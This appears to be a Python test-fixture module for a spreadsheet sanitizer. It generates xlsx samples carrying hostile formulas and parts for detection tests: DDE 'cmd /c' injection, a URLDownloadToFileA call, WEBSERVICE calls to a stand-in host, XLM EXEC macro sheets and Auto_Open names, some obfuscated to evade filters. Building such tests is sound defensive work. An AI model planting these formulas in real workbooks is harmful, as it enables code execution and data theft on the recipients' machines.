"""Workbooks once more: calls, names and parts written so that a careless reader passes them."""

from collections.abc import Callable

from tests.engines.sanitize.samples import MARK, Sample
from tests.engines.sanitize.samples.sheets import (
    MAIN,
    MICROSOFT,
    NS,
    SHEET,
    TYPE,
    X14,
    _after,
    _celled,
    _drawing,
    _linked,
    _named,
    _sheeted,
    benign,
    book,
    charted,
    illustrated,
    shape,
)

_WEB = f'WEBSERVICE("http://x.example/{MARK}")'
_CALLS = (
    ("formula-web", f'@WEBSERVICE("http://x.example/{MARK}")'),
    ("formula-web", f' WEBSERVICE ("http://x.example/{MARK}")'),
    ("formula-web", f'_xlfn._xlfn.WEBSERVICE("http://x.example/{MARK}")'),
    ("formula-web", f'wEbSeRvIcE("http://x.example/{MARK}")'),
    ("formula-web", f'IF(TRUE,1,"&amp;")&amp;_xlfn.WEBSERVICE("http://x.example/{MARK}")'),
    ("formula-web", f'_xlfn.IMAGE("http://x.example/{MARK}")'),
    ("formula-web", f'FILTERXML(_xlfn.WEBSERVICE("http://x.example/{MARK}"),"//a")'),
    ("formula-web", f'_xlfn.STOCKHISTORY("{MARK}",1)'),
    ("formula-web", f'_xlfn.MAP(A1:A2,_xleta.WEBSERVICE)&amp;"{MARK}"'),
    ("formula-web", f'_xlfn.LET(_xlpm.f,WEBSERVICE,_xlpm.f("http://x.example/{MARK}"))'),
    ("formula-web", f'WEBSERVICE\n(\n"http://x.example/{MARK}")'),
    ("formula-unknown", f'ＷＥＢＳＥＲＶＩＣＥ("http://x.example/{MARK}")'),
    ("formula-web", f'CHOOSE(1,WEBSERVICE)("http://x.example/{MARK}")'),
    ("formula-call", f'_xlfn.BYROW(A1:A2,_xleta.CALL)&amp;"{MARK}"'),
    ("formula-call", f'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://x/{MARK}")'),
    ("formula-call", f'REGISTER.ID("kernel32","{MARK}")'),
    ("formula-call", f'EVALUATE("{MARK}")'),
    ("formula-call", f'GET.WORKSPACE(1)&amp;"{MARK}"'),
    ("formula-call", f'_xlfn._xlws.PY("{MARK}",0)'),
    ("formula-rtd", f'RTD("x.y",,"{MARK}")'),
    ("formula-cube", f'CUBEVALUE("{MARK}","[a].[b]")'),
    ("formula-cube", f'SQL.REQUEST("dsn={MARK}","",1,"select 1")'),
    ("formula-hyperlink", f'HYPERLINK("file://x/{MARK}","押す")'),
    ("formula-hyperlink", f'HYPERLINK(CONCATENATE("java","script:{MARK}"))'),
    ("formula-dde", f"cmd|'/c {MARK}'!A0"),
    ("formula-dde", f"cmd |'/c {MARK}'!A0"),
    ("formula-dde", f"-2+3+cmd|'/c {MARK}'!A0"),
    ("formula-dde", f"'cmd'|'/c {MARK}'!'A0'"),
    ("formula-dde", f"MSEXCEL|'\\..\\..\\{MARK}.exe'!''"),
    ("formula-external", f"'C:\\x\\[{MARK}.xlsx]S'!A1"),
    ("formula-external", f"'http://x.example/[{MARK}.xlsx]S'!A1"),
    ("formula-external", f"'\\\\x.example\\[{MARK}.xlsx]S'!A1"),
    ("formula-external", f"[1]S!{MARK}"),
    ("formula-external", f"'[2]S'!A1&amp;\"{MARK}\""),
    ("formula-external", f"[0]!{MARK}"),
    ("formula-external", f"{MARK}.xlsx!A1"),
    ("formula-unknown", f'_xludf.{MARK}("x")'),
    ("formula-unknown", f'_xldudf_X("{MARK}")'),
    ("formula-unknown", f'Module1.Run("{MARK}")'),
    ("formula-unreadable", f"SUM(A1\u0001{MARK})".replace("\u0001", "`")),
    ("formula-unreadable", f'"{MARK}'),
)  # fmt: skip
_NAMES = (
    "Auto_Open",
    "auto_OPEN",
    "_xlnm.Auto_Open",
    "Auto_Open_1",
    "Auto_Close",
    "AUTO_ACTIVATE",
    "Auto_Deactivate",
    "Ａｕｔｏ_Ｏｐｅｎ",
    "AutoOpen",
    "_xlnm.auto_close",
)
CALLS = (
    *(Sample(f"ooxml.{kind}", f"{n}.xlsx", _celled(formula), benign) for n, (kind, formula) in enumerate(_CALLS)),
    Sample("ooxml.formula-web", "shared.xlsx", _celled(_WEB, ' t="shared" ref="A9:A10" si="7"'), benign),
    Sample("ooxml.formula-web", "array.xlsx", _celled(_WEB, ' t="array" ref="A9"'), benign),
    Sample("ooxml.formula-dde", "array.xlsx", _celled(f"cmd|'/c {MARK}'!A0", ' t="array" ref="A9"'), benign),
    *(Sample("ooxml.auto-name", f"name {n}.xlsx", _named("予算!$A$1", f'name="{name}" comment="{MARK}"'), benign) for n, name in enumerate(_NAMES)),
    Sample("ooxml.auto-name", "hidden.xlsx", _named("予算!$A$1", f'name="Auto_Open" hidden="1" comment="{MARK}"'), benign),
    Sample("ooxml.defined-name", "lambda.xlsx", _named(f"_xlfn.LAMBDA(_xlpm.x,{_WEB})", 'name="足す"'), benign),
    Sample("ooxml.defined-name", "eta.xlsx", _named("_xleta.WEBSERVICE", f'name="取る" comment="{MARK}"'), benign),
    Sample("ooxml.defined-name", "macro.xlsx", _named(f'EXEC("{MARK}")', 'name="走る" function="1" xlm="1" hidden="1"'), benign),
    Sample("ooxml.defined-name", "other.xlsx", _named(f"[1]!{MARK}", 'name="外"'), benign),
    Sample("ooxml.defined-name", "dde.xlsx", _named(f"cmd|'/c {MARK}'!A0", 'name="外"'), benign),
)  # fmt: skip


def _ruled(formula: str) -> Callable[[], bytes]:
    rule = f'<conditionalFormatting sqref="A1"><cfRule type="expression" dxfId="0" priority="9"><formula>{formula}</formula></cfRule></conditionalFormatting>'

    def make() -> bytes:
        new = book()
        new.edit(SHEET, "<dataValidations", rule + "<dataValidations")
        return new.bytes()

    return make


def _later(formula: str) -> Callable[[], bytes]:
    """A rule of the later kind, in the extension list."""
    xm = "http://schemas.microsoft.com/office/excel/2006/main"
    inside = (
        f'<extLst><ext uri="{{78C0D931-6437-407d-A8EE-F0AAD7539E65}}" xmlns:x14="{X14}"><x14:conditionalFormattings><x14:conditionalFormatting xmlns:xm="{xm}">'
        f'<x14:cfRule type="expression" priority="1" id="{{0}}"><xm:f>{formula}</xm:f></x14:cfRule><xm:sqref>A1</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings></ext></extLst>'
    )
    return _after(inside)


def _validated(formula: str) -> Callable[[], bytes]:
    def make() -> bytes:
        new = book()
        new.edit(SHEET, '"はい,いいえ"', formula)
        return new.bytes()

    return make


def _pivoted() -> bytes:
    new = book()
    new.relate(MAIN, "rId9", "pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml")
    new.part(
        "xl/pivotCache/pivotCacheDefinition1.xml",
        TYPE + "pivotCacheDefinition+xml",
        f'<pivotCacheDefinition {NS} refreshOnLoad="1"><cacheSource type="external" connectionId="1"/><x>{MARK}</x></pivotCacheDefinition>',
    )
    return new.bytes()


def _fetching(inside: str) -> Callable[[], bytes]:
    return _linked(MAIN, "connections", "connections.xml", f'<connections xmlns="x"><connection id="1" name="a" refreshOnLoad="1">{inside}</connection></connections>', type_=TYPE + "connections+xml")  # fmt: skip


def _chained() -> bytes:
    new = book()
    new.relate(MAIN, "rId9", "externalLink", "externalLinks/externalLink1.xml")
    new.part(
        "xl/externalLinks/externalLink1.xml",
        TYPE + "externalLink+xml",
        f'<externalLink {NS}><oleLink r:id="rId1" progId="Word.Document"><oleItems><oleItem name="{MARK}" advise="1"/></oleItems></oleLink></externalLink>',
    )
    new.relate(
        "xl/externalLinks/externalLink1.xml", "rId1", "oleObject", f"file:///{MARK}", external=True
    )
    return new.bytes()  # fmt: skip


def _macro_sheet(state: str) -> bytes:
    new = book()
    new.edit(
        MAIN, "</sheets>", f'<sheet name="M" sheetId="9" state="{state}" r:id="rId9"/></sheets>'
    )
    new.relate(MAIN, "rId9", f"{MICROSOFT}xlMacrosheet", "macrosheets/sheet1.xml")
    cell = f'<row r="1"><c r="A1"><f>EXEC("{MARK}")</f></c></row>'
    new.part(
        "xl/macrosheets/sheet1.xml",
        "application/vnd.ms-excel.macrosheet+xml",
        f"<xm:macrosheet xmlns:xm='http://schemas.microsoft.com/office/excel/2006/main' {NS}><sheetData>{cell}</sheetData></xm:macrosheet>",
    )
    return new.bytes()  # fmt: skip


def _very_hidden() -> bytes:
    new = book()
    new.edit(MAIN, 'sheetId="2"', 'sheetId="2" state="veryHidden"')
    return new.bytes()


def _footed() -> bytes:
    new = book()
    new.edit(SHEET, "&amp;D</oddHeader>", f"&amp;G{MARK}</oddHeader>".replace(MARK, ""))
    new.edit(SHEET, "</worksheet>", '<legacyDrawingHF r:id="rId9"/></worksheet>')
    new.relate(SHEET, "rId9", "vmlDrawing", "../drawings/vmlDrawing9.vml")
    new.part(
        "xl/drawings/vmlDrawing9.vml",
        "application/vnd.openxmlformats-officedocument.vmlDrawing",
        f'<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape onclick="{MARK}"/></xml>',
    )
    return new.bytes()  # fmt: skip


PARTS = (
    Sample("ooxml.validation-formula", "rule.xlsx", _ruled(_WEB.replace('"', "&quot;")), benign),
    Sample("ooxml.validation-formula", "rule of another book.xlsx", _ruled(f"[1]S!{MARK}"), benign),
    Sample("ooxml.validation-formula", "rule, DDE.xlsx", _ruled(f"cmd|'/c {MARK}'!A0"), benign),
    Sample("ooxml.validation-formula", "later rule.xlsx", _later(f"cmd|'/c {MARK}'!A0"), benign),
    Sample("ooxml.validation-formula", "list.xlsx", _validated(f"[1]S!{MARK}"), benign),
    Sample("ooxml.validation-formula", "list, eta.xlsx", _validated(f'_xlfn.MAP(A1,_xleta.WEBSERVICE)&amp;"{MARK}"'), benign),
    Sample("ooxml.chart-formula", "web.xlsx", lambda: charted(formula=_WEB).bytes(), lambda: charted().bytes()),
    Sample("ooxml.chart-formula", "dde.xlsx", lambda: charted(formula=f"cmd|'/c {MARK}'!A0").bytes(), lambda: charted().bytes()),
    Sample("ooxml.xlm", "visible.xlsm", lambda: _macro_sheet("visible"), benign),
    Sample("ooxml.xlm", "very hidden.xlsm", lambda: _macro_sheet("veryHidden"), benign),
    Sample("ooxml.xlm", "international.xlsm", _sheeted("macrosheet", "intlMacrosheets", "application/vnd.ms-excel.intlmacrosheet+xml", f"{MICROSOFT}xlIntlMacrosheet"), benign),
    Sample("ooxml.hidden-sheet", "very.xlsx", _very_hidden, benign),
    Sample("ooxml.pivot-cache", "external.xlsx", _pivoted, benign),
    Sample("ooxml.connection", "odbc.xlsx", _fetching(f'<dbPr connection="DRIVER=x;{MARK}" command="x"/>'), benign),
    Sample("ooxml.connection", "web.xlsx", _fetching(f'<webPr url="http://x.example/{MARK}"/>'), benign),
    Sample("ooxml.connection", "text.xlsx", _fetching(f'<textPr sourceFile="\\\\x\\{MARK}"/>'), benign),
    Sample("ooxml.external-link", "ole.xlsx", _chained, benign),
    Sample("ooxml.external-link", "address.xlsx", _linked(MAIN, "externalLinkPath", f"http://x.example/{MARK}", external=True), benign),
    Sample("ooxml.data-mashup", "query.xlsx", _linked(MAIN, "customXml", "/customXml/item1.xml", f"<DataMashup xmlns='http://schemas.microsoft.com/DataMashup'>{MARK}</DataMashup>"), benign),
    Sample("ooxml.macro-attribute", "shape.xlsx", _drawing(shape(f'macro="[0]!{MARK}" textlink=""')), lambda: illustrated().bytes()),
    Sample("ooxml.formula-external", "linked words.xlsx", _drawing(shape(f'macro="" textlink="[1]S!{MARK}"')), lambda: illustrated().bytes()),
    Sample("ooxml.vml-object", "footer.xlsx", _footed, benign),
    Sample("ooxml.web-extension", "published.xlsx", _after(f'<webPublishItems count="1"><webPublishItem id="1" destinationFile="\\\\x\\{MARK}"/></webPublishItems>'), benign),
    Sample("ooxml.hyperlink-scheme", "hyperlink.xlsx", _after('<hyperlinks><hyperlink ref="B9" r:id="rId55"/></hyperlinks>', ("rId55", "hyperlink", f"file:///{MARK}", True)), benign),
    Sample("ooxml.rich-data", "types.xlsx", _linked(MAIN, "http://schemas.microsoft.com/office/2017/06/relationships/rdRichValueTypes", "richData/rdRichValueTypes.xml"), benign),
)  # fmt: skip

SAMPLES = (*CALLS, *PARTS)
